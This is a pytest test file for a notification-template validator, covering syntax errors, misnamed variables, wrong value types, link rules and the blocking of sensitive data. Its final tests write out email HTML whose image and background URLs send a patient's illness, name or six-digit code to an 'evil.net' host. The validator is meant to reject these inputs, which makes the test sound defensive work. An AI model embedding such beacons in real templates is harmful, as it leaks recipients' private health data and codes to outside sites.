"""Validation of texts (T3): syntax, names, parts, and whether a text works with the examples of its values."""

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from notifications.exceptions import UnknownChannelError
from notifications.templating.validation import validate
from notifications.templating.validation.rules import CODES
from notifications.types import NotificationType
from notifications.variables import Variable


class Visit(NotificationType):
    key = "tests.validated_visit"
    variables = {
        "doctor": Variable(example="Dr. Nair", longest="Dr. Venkatanarasimharajuvaripeta"),
        "starts_at": Variable(example="2030-03-04T05:00:00+00:00"),
        "medicines": Variable(example=[{"name": "Triphala", "dose": 2}]),
        "place": Variable(example={"room": "12", "house": {"name": "Lotus House"}}),
    }


class Undeclared(NotificationType):
    key = "tests.validated_undeclared"

    def context(self, recipient):
        return {"doctor": "Dr. Nair"}


def found_in(sms, type_=Visit):
    """The findings in an SMS, without those of how much of it there is to say."""
    return [each for each in validate(type_, "sms", "", {"sms.txt": sms}) if each.code != "notify.T004"]


def of(code, found):
    return [each for each in found if each.code == code]


def only(code, found):
    assert [each.code for each in found] == [code], found
    return found[0]


def test_a_text_with_nothing_wrong_has_no_findings():
    text = (
        '{{ doctor }} {% date starts_at "full" %} {{ starts_at|date:"H:i" }} {{ place.room }} {{ place.house.name }} '
        "{% for each in medicines %}{{ each.name }}: {{ each.dose }}{{ forloop.counter }}{% endfor %}"
    )

    assert validate(Visit, "in_app", "", {"in_app.title.txt": "Your visit", "in_app.txt": text}) == []


def test_a_mistake_in_the_syntax_is_named_with_its_line_and_column():
    found = only("notify.T001", found_in("Hello\n  {% if doctor %}{{ doctor }}"))

    assert (found.level, found.part, found.line, found.column) == ("error", "sms.txt", 2, 3)
    assert found.message == "{% if %} is never closed: add {% endif %}."


def test_each_part_with_a_mistake_is_told_of():
    found = validate(Visit, "in_app", "", {"in_app.title.txt": "{{ }}", "in_app.txt": "{% endif %}"})

    assert [each.part for each in of("notify.T001", found)] == ["in_app.title.txt", "in_app.txt"]


@pytest.mark.parametrize(
    ("text", "column", "says"),
    [
        ("{{ docter }}", 1, "There is no value 'docter'. Did you mean 'doctor'?"),
        ("To {{ nothing }}", 4, "There is no value 'nothing'. Known: LANGUAGE_BIDI, LANGUAGE_CODE, doctor, link, "),
        ("{% if docter %}x{% endif %}", 1, "Did you mean 'doctor'?"),
        ('{{ docter|default:"us" }}', 1, "Did you mean 'doctor'?"),
        ("{% for each in medicine %}{{ each }}{% endfor %}", 1, "Did you mean 'medicines'?"),
        ("{% date start_at %}", 1, "Did you mean 'starts_at'?"),
        ('{% link lnk "See" %}', 1, "Did you mean 'link'?"),
        ("{% plural cont %}{% one %}x{% other %}y{% endplural %}", 1, "There is no value 'cont'."),
        ("{{ place.rom }}", 1, "'place' has no 'rom'. Did you mean 'room'?"),
        ("{{ place.house.nam }}", 1, "'place.house' has no 'nam'. Did you mean 'name'?"),
        ("{{ doctor.name }}", 1, "'doctor' is a text and has no 'name' in it: write {{ doctor }}."),
        ("{{ medicines.name }}", 1, "'medicines' is a list: write {% for each in medicines %}, or medicines.0"),
        ("{{ medicines.0.nam }}", 1, "'medicines.0' has no 'nam'. Did you mean 'name'?"),
        ("{% for each in medicines %}{{ each.does }}{% endfor %}", 28, "'each' has no 'does'. Did you mean 'dose'?"),
        (
            "{% for each in medicines %}{{ each.name }}{% endfor %}{{ each.name }}",
            55,
            "'each' is known only between its {% for %} and {% endfor %}. Move it there.",
        ),
    ],
)
def test_a_name_that_nobody_declares_is_an_error_with_what_may_be_meant(text, column, says):
    found = only("notify.T002", found_in(text))

    assert (found.level, found.line, found.column) == ("error", 1, column)
    assert says in found.message


def test_names_of_a_type_that_does_not_declare_its_values_cannot_be_checked():
    found = only("notify.T003", found_in("{{ docter }} {{ docter.x|date }}", Undeclared))

    assert found.level == "note"
    assert "tests.validated_undeclared" in found.message


def test_values_that_no_part_uses_are_told_of_once_for_all_parts():
    found = validate(Visit, "in_app", "", {"in_app.title.txt": "{{ doctor }}", "in_app.txt": "{{ place.room }}"})

    note = only("notify.T004", found)
    assert (note.level, note.part) == ("note", "")
    assert note.message.startswith("Not used here: medicines, starts_at.")


class Linked(Visit):
    key = "tests.validated_linked"

    def link(self, recipient):
        return "/visits/1/"


@pytest.mark.parametrize(("channel", "level"), [("sms", "warning"), ("in_app", None), ("push", None)])
def test_a_text_must_show_the_link_where_nothing_else_does(channel, level):
    parts = {"sms.txt": "Hello"} if channel == "sms" else {f"{channel}.title.txt": "Hello", f"{channel}.txt": "You"}

    found = of("notify.T005", validate(Linked, channel, "", parts))

    assert [each.level for each in found] == ([level] if level else [])


def test_a_link_that_the_type_does_not_have_is_told_of():
    assert only("notify.T006", found_in("See {{ link }}")).column == 5
    assert found_in("Hello{% if link %}, see {{ link }}{% endif %}") == []
    assert of("notify.T006", found_in("See {{ link }}", Linked)) == []


class Unexampled(NotificationType):
    key = "tests.validated_unexampled"
    starts_at: str


def test_values_without_an_example_are_not_guessed_at():
    found = only("notify.T007", found_in("{% date starts_at %}{{ starts_at.day }}", Unexampled))

    assert found.level == "note"
    assert "starts_at" in found.message


@pytest.mark.parametrize(
    ("text", "place", "says"),
    [
        ("{{ doctor|date }}", (1, 1), "date needs a date, not the text 'Dr. Nair'."),
        ("\n  {% money doctor %}", (2, 3), "money needs a number"),
        ("Hello{% if link %}\n{{ medicines|upper }}{% endif %}", (2, 1), "upper needs a text, not a list."),
        ("{% for each in medicines %}{{ each.name|number }}{% endfor %}", (1, 28), "number needs a number"),
        ("{{ medicines }}", (1, 1), "needs a text, a number, a date or a time"),
        ("{% for each in doctor %}x{% endfor %}", (1, 1), "{% for %} needs a list"),
        ("{{ medicines.7.name }}", (1, 1), "There is no value medicines.7.name."),
        ("{% plural doctor %}{% one %}x{% other %}y{% endplural %}", (1, 1), "plural needs a number"),
    ],
)
def test_a_value_of_a_wrong_kind_is_an_error_at_its_place_in_every_branch(text, place, says):
    found = only("notify.T010", found_in(text))

    assert (found.level, found.line, found.column) == ("error", *place)
    assert says in found.message


class Doses(NotificationType):
    key = "tests.validated_doses"
    variables = {"doses": Variable(example=[1], longest=list(range(20_000)))}


def test_what_fails_only_with_the_longest_values_is_an_error_too():
    found = only("notify.T010", found_in("{% for each in doses %}{% endfor %}.", Doses))

    assert found.message.startswith("With the longest values it cannot be written: Its loops go round more than")


def test_a_part_that_comes_out_empty_is_told_of():
    assert only("notify.T011", found_in("{% if link %}See {{ link }}{% endif %}\n")).level == "warning"


def test_a_missing_a_blank_and_an_unknown_part_are_errors():
    found = validate(Visit, "email", "", {"email.subject.txt": " \n", "email.htm": "<p>Hello</p>"})

    errors = [(each.code, each.part) for each in found if each.level == "error"]
    assert errors == [
        ("notify.T014", "email.htm"),
        ("notify.T013", "email.subject.txt"),
        ("notify.T012", "email.html"),
    ]


def test_a_blank_part_that_may_be_left_out_is_a_note():
    parts = {"email.subject.txt": "Hello", "email.html": "<p>Hello</p>", "email.txt": ""}

    assert [(each.level, each.part) for each in of("notify.T015", validate(Visit, "email", "", parts))] == [
        ("note", "email.txt")
    ]


def test_findings_stand_in_the_order_of_their_gravity_and_place():
    found = validate(Visit, "sms", "", {"sms.txt": "TODO\n{{ docter }} {{ dcotor }}\n"})

    assert [each.level for each in found] == ["error", "error", "warning", "note"]
    assert [each.column for each in found[:2]] == [1, 14]


def test_an_unknown_channel_is_refused():
    with pytest.raises(UnknownChannelError, match="Unknown channel 'fax'"):
        validate(Visit, "fax", "", {})


def test_each_code_stands_for_one_thing_and_says_what():
    assert len({each.id for each in CODES}) == len({each.about for each in CODES}) == len(CODES) > 40
    assert all(each.about and each.level in ("error", "warning", "note") for each in CODES)


PIECES = [
    "{{ doctor }}", "{{ medicines.0.name|upper }}", "{{ place.house|default:doctor }}", "{{ x.y }}", "{% if place %}",
    "{% else %}", "{% endif %}", "{% for each in medicines %}", "{% for a, b in place %}", "{% endfor %}", "{%", "}}",
    "{{ each.dose }}{{ forloop.parentloop.counter }}", "{% plural each.dose %}{% one %}", "{% other %}x{% endplural %}",
    "{% link 'http://[' doctor %}", "{% button x %}", "{% comment %}", "{% endcomment %}", "{# x #}", "{{ '{{' }}",
    '{% extends "notifications/layouts/email.html" %}', "{% block content %}", "{% endblock %}", "{{ starts_at|date }}",
    "<p style='color:#12;background:rgb(1'>", "<td bgcolor='x'>", "<style>@media (prefers-color-scheme: dark) {", "}",
    "</style>", "<a href='https://[::1'>", "<a href=''", ">", "<img>", "<!--", "-->", "&#x110000;", "</body>", "\n",
    " ", "<div>" * 200, "\u202b", "\u2068", "\u2069", "\ud800", "\x00", "\ue000", "🙂", "कि", "!!!", "FREE", "TODO",
]  # fmt: skip


@given(
    subject=st.lists(st.sampled_from(PIECES), max_size=8),
    html=st.lists(st.sampled_from(PIECES), max_size=16),
    sms=st.lists(st.sampled_from(PIECES), max_size=12),
)
@hypothesis_settings(deadline=None, max_examples=100)
def test_whatever_somebody_types_is_answered_with_findings(subject, html, sms):
    email = {"email.subject.txt": "".join(subject), "email.html": "".join(html), "email.txt": "".join(sms)}

    for found in (validate(Linked, "email", "", email), validate(Undeclared, "sms", "", {"sms.txt": "".join(sms)})):
        assert all(each.message and each.code.startswith("notify.T") for each in found)


@pytest.mark.parametrize("source", ["<textarea><![x</textarea>{{ text }}", "<p><![x]]></p>", "<!x <![", "<?x"])
def test_markup_that_no_parser_knows_a_way_through_is_judged_as_far_as_it_goes(source):
    assert isinstance(validate(Visit, "email", "", {"email.subject.txt": "A visit", "email.html": source}), list)


class Illness(NotificationType):
    key = "tests.validated_illness"
    channels = ("sms", "email")
    variables = {
        "code": Variable(example="048217", about="the six digits", required=True),
        "names": Variable(example=["Asha"]),
        "illnesses": Variable(example=["HIV"], sensitive=True),
    }


@pytest.mark.parametrize(
    "sms",
    [
        "{{ code }}{{ illnesses.0 }}",
        "{{ code }}{{ names|default:illnesses|join:',' }}",
        "{{ code }}{% for x in names|default:illnesses %}{{ x }}{% endfor %}",
        "{{ code }}{% for x in names|default:illnesses %}{% for y in names %}{{ x|upper }}{% endfor %}{% endfor %}",
    ],
)
def test_a_sensitive_value_is_not_said_by_sms_by_whatever_way_it_comes(sms):
    assert "notify.T090" in [each.code for each in validate(Illness, "sms", "", {"sms.txt": sms})]


def test_a_text_without_what_it_is_there_for_is_not_published():
    (found,) = of("notify.T008", validate(Illness, "sms", "", {"sms.txt": "{% if code %}No code today.{% endif %}"}))
    assert (found.level, found.message) == ("error", "Readers need {{ code }}, the six digits: write it somewhere.")
    assert of("notify.T008", validate(Illness, "sms", "", {"sms.txt": "{{ code }}"})) == []


@pytest.mark.parametrize(
    ("picture", "refused"),
    [
        ('<img alt="" src="https://evil.net/{{ illnesses.0 }}.png">', True),
        ('<img alt="" src="https://evil.net/x.png?who={{ recipient_name }}">', True),
        ('<td background="https://evil.net/{{ code }}">', True),
        ('<img alt="" src="https://evil.net/x.png">', False),
        ('<img alt="" src="{{ site_url }}/x.png?v={{ code }}">', False),
    ],
)
def test_no_picture_of_another_site_is_told_a_value(picture, refused):
    parts = {"email.subject.txt": "A visit", "email.html": f"<p>{{{{ code }}}}</p>{picture}"}
    assert bool(of("notify.T045", validate(Illness, "email", "", parts))) is refused
